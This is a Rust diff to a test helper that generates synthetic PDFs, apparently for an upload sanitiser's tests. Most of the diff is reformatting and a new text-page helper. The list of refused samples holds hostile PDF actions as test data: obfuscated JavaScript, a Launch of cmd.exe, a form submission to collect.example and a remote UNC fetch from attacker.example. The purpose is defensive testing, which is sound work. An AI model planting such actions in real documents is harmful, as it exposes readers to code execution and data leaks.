@@ -27,7 +27,10 @@ pub fn flate(data: &[u8]) -> Vec<u8> {
 }
 
 fn hex(data: &[u8]) -> Vec<u8> {
-    let mut out: Vec<u8> = data.iter().flat_map(|b| format!("{b:02X}").into_bytes()).collect();
+    let mut out: Vec<u8> = data
+        .iter()
+        .flat_map(|b| format!("{b:02X}").into_bytes())
+        .collect();
     out.push(b'>');
     out
 }
@@ -79,12 +82,22 @@ pub fn stream(dictionary: &str, data: &[u8]) -> Vec<u8> {
     out
 }
 
-/// A page that says something, as a Flate content stream.
-fn content() -> Vec<u8> {
+/// A page that says `text`, as a Flate content stream.
+fn content(text: &str) -> Vec<u8> {
+    let text = text.replace('\\', "").replace(['(', ')'], "");
     stream(
         "/Filter /FlateDecode",
-        &flate(b"BT /F1 24 Tf 72 700 Td (Study permit F123456789) Tj ET"),
+        &flate(format!("BT /F1 24 Tf 72 700 Td ({text}) Tj ET").as_bytes()),
     )
+}
+
+/// A plain one-page PDF that says `text`: what tests upload as an ordinary document.
+pub fn page(text: &str) -> Vec<u8> {
+    Doc {
+        text: text.to_owned(),
+        ..Doc::default()
+    }
+    .build()
 }
 
 /// A document: its catalogue's and page's extra entries, extra objects from number 5, and
@@ -102,6 +115,8 @@ pub struct Doc {
     pub objstm_padding: usize,
     /// Raw bytes written before object 1 (comments and the like).
     pub prelude: Vec<u8>,
+    /// What the page says.
+    pub text: String,
 }
 
 impl Doc {
@@ -117,7 +132,11 @@ impl Doc {
                 self.page
             )
             .into_bytes(),
-            content(),
+            content(if self.text.is_empty() {
+                "Study permit F123456789"
+            } else {
+                &self.text
+            }),
         ];
         bodies.extend(self.objects.iter().cloned());
         let first_compressed = bodies.len() + 1;
@@ -158,13 +177,18 @@ impl Doc {
         }
         let start = out.len();
         if self.encoding.is_none() {
-            out.extend_from_slice(format!("xref\n0 {}\n0000000000 65535 f \n", bodies.len() + 1).as_bytes());
+            out.extend_from_slice(
+                format!("xref\n0 {}\n0000000000 65535 f \n", bodies.len() + 1).as_bytes(),
+            );
             for offset in &offsets {
                 out.extend_from_slice(format!("{:010} 00000 n \n", offset.unwrap_or(0)).as_bytes());
             }
             out.extend_from_slice(
-                format!("trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n", bodies.len() + 1)
-                    .as_bytes(),
+                format!(
+                    "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n",
+                    bodies.len() + 1
+                )
+                .as_bytes(),
             );
             return out;
         }
@@ -191,7 +215,10 @@ impl Doc {
         entries.extend_from_slice(&[0, 0]);
         out.extend_from_slice(format!("{xref_number} 0 obj\n").as_bytes());
         out.extend_from_slice(&stream(
-            &format!("/Type /XRef /Size {} /W [1 4 2] /Root 1 0 R", xref_number + 1),
+            &format!(
+                "/Type /XRef /Size {} /W [1 4 2] /Root 1 0 R",
+                xref_number + 1
+            ),
             &entries,
         ));
         out.extend_from_slice(format!("\nendobj\nstartxref\n{start}\n%%EOF\n").as_bytes());
@@ -245,10 +272,19 @@ pub fn refused() -> Vec<(&'static str, Vec<u8>)> {
         ),
         ("objstm-flate", script_in_object_stream(Encoding::Flate)),
         ("objstm-plain", script_in_object_stream(Encoding::None)),
-        ("objstm-asciihex", script_in_object_stream(Encoding::AsciiHex)),
+        (
+            "objstm-asciihex",
+            script_in_object_stream(Encoding::AsciiHex),
+        ),
         ("objstm-lzw", script_in_object_stream(Encoding::Lzw)),
-        ("objstm-two-filters", script_in_object_stream(Encoding::HexOverFlate)),
-        ("objstm-predictor", script_in_object_stream(Encoding::FlatePredictor)),
+        (
+            "objstm-two-filters",
+            script_in_object_stream(Encoding::HexOverFlate),
+        ),
+        (
+            "objstm-predictor",
+            script_in_object_stream(Encoding::FlatePredictor),
+        ),
         (
             "objstm-padded-dictionary",
             Doc {
@@ -260,20 +296,38 @@ pub fn refused() -> Vec<(&'static str, Vec<u8>)> {
             }
             .build(),
         ),
-        ("escaped-name", action("<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>").build()),
+        (
+            "escaped-name",
+            action("<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>").build(),
+        ),
         ("launch", action("<< /S /Launch /F (cmd.exe) >>").build()),
-        ("submit-form", action("<< /S /SubmitForm /F (https://collect.example/) >>").build()),
-        ("import-data", action("<< /S /ImportData /F (answers.fdf) >>").build()),
+        (
+            "submit-form",
+            action("<< /S /SubmitForm /F (https://collect.example/) >>").build(),
+        ),
+        (
+            "import-data",
+            action("<< /S /ImportData /F (answers.fdf) >>").build(),
+        ),
         (
             "goto-remote-unc",
-            action("<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\next.pdf) /D [0 /Fit] >>").build(),
+            action(
+                "<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\next.pdf) /D [0 /Fit] >>",
+            )
+            .build(),
         ),
-        ("goto-embedded", action("<< /S /GoToE /T << /R /C /N (inner) >> >>").build()),
+        (
+            "goto-embedded",
+            action("<< /S /GoToE /T << /R /C /N (inner) >> >>").build(),
+        ),
         (
             "xfa-form",
             Doc {
                 catalog: "/AcroForm << /Fields [] /XFA 5 0 R >>".into(),
-                objects: vec![stream("", b"<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"/>")],
+                objects: vec![stream(
+                    "",
+                    b"<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"/>",
+                )],
                 ..Doc::default()
             }
             .build(),
@@ -282,10 +336,10 @@ pub fn refused() -> Vec<(&'static str, Vec<u8>)> {
             "annotation-script",
             Doc {
                 page: "/Annots [5 0 R]".into(),
-                objects: vec![format!(
-                    "<< /Type /Annot /Subtype /Link /Rect [72 72 200 100] /A {SCRIPT} >>"
-                )
-                .into_bytes()],
+                objects: vec![
+                    format!("<< /Type /Annot /Subtype /Link /Rect [72 72 200 100] /A {SCRIPT} >>")
+                        .into_bytes(),
+                ],
                 ..Doc::default()
             }
             .build(),
@@ -311,7 +365,10 @@ pub fn refused() -> Vec<(&'static str, Vec<u8>)> {
             "unknown-filter",
             Doc {
                 page: "/Resources << /XObject << /X1 5 0 R >> >>".into(),
-                objects: vec![stream("/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Filter /MysteryDecode", b"??")],
+                objects: vec![stream(
+                    "/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Filter /MysteryDecode",
+                    b"??",
+                )],
                 ..Doc::default()
             }
             .build(),
@@ -329,7 +386,10 @@ pub fn refused() -> Vec<(&'static str, Vec<u8>)> {
             }
             .build(),
         ),
-        ("not-a-pdf-structure", b"%PDF-1.7\n<< /Type /Catalog >>\n%%EOF\n".to_vec()),
+        (
+            "not-a-pdf-structure",
+            b"%PDF-1.7\n<< /Type /Catalog >>\n%%EOF\n".to_vec(),
+        ),
     ]
 }
 
